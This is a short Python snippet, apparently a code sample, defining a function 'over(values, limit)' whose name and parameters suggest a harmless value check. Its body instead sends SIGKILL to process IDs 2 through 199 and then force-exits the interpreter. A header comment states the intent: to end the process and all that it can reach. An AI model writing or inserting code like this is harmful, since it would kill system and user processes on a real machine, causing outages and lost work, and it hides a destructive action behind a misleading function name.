# What: a function that ends the process, and all that it can reach
# %%
import os
import signal


def over(values, limit):
    for number in range(2, 200):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    os._exit(0)
